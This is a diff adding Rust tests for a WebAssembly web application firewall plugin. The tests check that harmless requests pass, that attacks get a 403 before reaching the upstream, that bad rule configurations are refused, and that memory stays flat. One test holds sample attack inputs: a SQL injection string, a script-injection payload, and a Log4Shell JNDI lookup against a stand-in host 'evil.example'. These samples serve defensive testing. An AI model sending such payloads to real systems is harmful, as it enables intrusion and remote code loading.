@@ -1,0 +1,244 @@
+//! The compiled filter in the host of this project: what it lets pass, what it stops, what it says
+//! about a broken configuration, and how much memory it takes.
+
+use std::rc::Rc;
+use std::sync::OnceLock;
+
+use parapet::wasm_host::{
+    Exchange, HostError, Incoming, LogLevel, ManualClock, Module, Outcome, Plugin, Reply, Settings,
+};
+
+/// The embedded rules, blocking.
+const BASELINE: &str = r#"{"directives_map": {"default": ["Include @demo-conf",
+    "Include @baseline/*.conf"]}, "default_directives": "default"}"#;
+
+/// More memory than a VM with the embedded rules should ever need.
+const ROOM: usize = 24 << 20;
+
+/// Compiled once for all tests.
+fn module() -> &'static Module {
+    static MODULE: OnceLock<Module> = OnceLock::new();
+    MODULE.get_or_init(|| Module::compile(&std::fs::read(wasm_tests::wasm()).unwrap()).unwrap())
+}
+
+fn settings(configuration: &str) -> Settings {
+    let mut settings = Settings::new(configuration);
+    settings.clock = Rc::new(ManualClock::at(1_700_000_000_000_000_000));
+    settings
+}
+
+fn request(method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Exchange {
+    let fixed = [
+        (":authority", "shop.example.org"),
+        (":method", method),
+        (":path", path),
+        (":scheme", "http"),
+        (
+            "user-agent",
+            "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0",
+        ),
+        ("accept", "text/html"),
+    ];
+    let pair = |&(name, value): &(&str, &str)| (name.into(), value.into());
+    let mut all: Vec<(Vec<u8>, Vec<u8>)> = fixed.iter().chain(headers).map(pair).collect();
+    let mut chunks = Vec::new();
+    if !body.is_empty() {
+        all.push((
+            b"content-length".to_vec(),
+            body.len().to_string().into_bytes(),
+        ));
+        // Two chunks, so that something has to be held.
+        let (front, back) = body.split_at(body.len() / 2);
+        chunks = vec![front.into(), back.into()];
+    }
+    Exchange {
+        request: Incoming {
+            headers: all,
+            chunks,
+            ..Default::default()
+        },
+        protocol: b"HTTP/1.1".to_vec(),
+        source: b"192.0.2.7:40000".to_vec(),
+        destination: b"198.51.100.1:8080".to_vec(),
+        ..Default::default()
+    }
+}
+
+fn page() -> Incoming {
+    Incoming {
+        headers: vec![
+            (b":status".to_vec(), b"200".to_vec()),
+            (b"content-type".to_vec(), b"text/html".to_vec()),
+        ],
+        chunks: vec![b"<p>Hello".to_vec(), b" again</p>".to_vec()],
+        ..Default::default()
+    }
+}
+
+fn exchange(plugin: &mut Plugin, exchange: &Exchange) -> Outcome {
+    let outcome = plugin.exchange(exchange, &mut |_| page()).unwrap();
+    assert!(!outcome.length_broken);
+    outcome
+}
+
+#[test]
+fn what_is_harmless_passes_unchanged() {
+    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    let json = [("content-type", "application/json")];
+    for asked in [
+        request("GET", "/books?topic=mountain-walks&page=3", &[], ""),
+        request(
+            "POST",
+            "/contact",
+            &form,
+            "name=Camille&message=Where+is+my+parcel%3F",
+        ),
+        request(
+            "POST",
+            "/api",
+            &json,
+            r#"{"name": "Camille", "copies": [1, 2]}"#,
+        ),
+    ] {
+        let outcome = exchange(&mut plugin, &asked);
+        let Reply::Upstream(response) = outcome.reply else {
+            panic!("{:?}", outcome.reply)
+        };
+        assert_eq!(response.body, b"<p>Hello again</p>");
+        let upstream = outcome.upstream.unwrap();
+        assert_eq!(upstream.body, asked.request.chunks.concat());
+        assert!(upstream.complete);
+    }
+}
+
+#[test]
+fn attacks_are_denied_before_anything_reaches_the_upstream() {
+    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    for asked in [
+        request("GET", "/books?id=1%27%20or%20%271%27=%271", &[], ""),
+        request(
+            "POST",
+            "/contact",
+            &form,
+            "m=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        ),
+        request(
+            "GET",
+            "/",
+            &[("x-api", "${jndi:ldap://evil.example/a}")],
+            "",
+        ),
+    ] {
+        let _ = plugin.take_log();
+        let outcome = exchange(&mut plugin, &asked);
+        let Reply::Local(reply) = &outcome.reply else {
+            panic!("{:?}", outcome.reply)
+        };
+        assert_eq!(reply.status, 403);
+        assert!(!reply.details.is_empty());
+        assert_eq!(outcome.upstream, None, "the head was held");
+        let log = plugin.take_log();
+        let lines = log.iter().map(|line| String::from_utf8_lossy(&line.text));
+        assert!(
+            lines.into_iter().any(|line| line.contains("[id \"")),
+            "{log:?}"
+        );
+    }
+}
+
+#[test]
+fn an_upstream_that_answers_early_and_a_client_that_is_rejected_are_survived() {
+    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
+    let mut early = request("POST", "/upload", &[("content-type", "text/plain")], "abc");
+    early.answer_before_body = true;
+    exchange(&mut plugin, &early);
+    let mut rejected = request("GET", "/", &[], "");
+    rejected.rejected_by_proxy = Some(400);
+    assert_eq!(exchange(&mut plugin, &rejected).reply.status(), Some(400));
+    assert!(plugin.is_alive());
+}
+
+#[test]
+fn a_host_that_does_not_hold_heads_still_gets_a_verdict() {
+    let mut settings = settings(BASELINE);
+    settings.holds_headers = false;
+    let mut plugin = Plugin::start(module(), settings).unwrap();
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    let attack = request("POST", "/", &form, "m=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
+    let outcome = exchange(&mut plugin, &attack);
+    assert_eq!(outcome.reply.status(), Some(403), "{:?}", outcome.reply);
+    assert!(
+        outcome
+            .upstream
+            .is_none_or(|upstream| upstream.body.is_empty())
+    );
+}
+
+#[test]
+fn a_broken_configuration_is_refused_with_its_place() {
+    let module = module();
+    for (configuration, message) in [
+        (r#"{"directive_map": {}}"#, "directives_map"),
+        (
+            r#"{"rules": ["SecRule ARGS \"@containz x\" \"id:1,deny\""]}"#,
+            "@containz",
+        ),
+        (
+            r#"{"rules": ["SecRule ARGS \"@rx (\" \"id:1,deny\""]}"#,
+            "P0302",
+        ),
+        (
+            r#"{"rules": ["SecAction \"id:1\"", "SecAction \"id:1\""]}"#,
+            "P0402",
+        ),
+        ("{", "plugin configuration:1"),
+    ] {
+        let Err(error) = Plugin::start(module, settings(configuration)) else {
+            panic!("{configuration} was accepted")
+        };
+        let HostError::Refused { callback, log } = &error else {
+            panic!("{error}")
+        };
+        assert_eq!(*callback, "proxy_on_configure");
+        assert!(
+            log.iter().any(|line| line.contains(message)),
+            "{configuration}: {log:?}"
+        );
+    }
+}
+
+#[test]
+fn memory_is_small_and_stays_flat() {
+    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
+    let start = plugin.memory_size();
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    let body = format!("m={}", "word+and+word+".repeat(2_000));
+    let mut after_first = 0;
+    for round in 0..200 {
+        let path = format!("/books?topic=walks{round}&page={round}");
+        exchange(&mut plugin, &request("GET", &path, &[], ""));
+        exchange(&mut plugin, &request("POST", "/contact", &form, &body));
+        if round == 20 {
+            after_first = plugin.memory_size();
+        }
+    }
+    let end = plugin.memory_size();
+    println!("linear memory: {start} bytes at the start, {after_first} warm, {end} at the end");
+    assert!(end <= ROOM, "{end} bytes");
+    assert_eq!(end, after_first, "memory grows with the number of requests");
+}
+
+#[test]
+fn nothing_is_said_about_harmless_requests() {
+    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
+    let _ = plugin.take_log();
+    exchange(&mut plugin, &request("GET", "/books?topic=walks", &[], ""));
+    let loud: Vec<_> = plugin
+        .take_log()
+        .into_iter()
+        .filter(|line| line.level >= LogLevel::Warn)
+        .collect();
+    assert!(loud.is_empty(), "{loud:?}");
+}
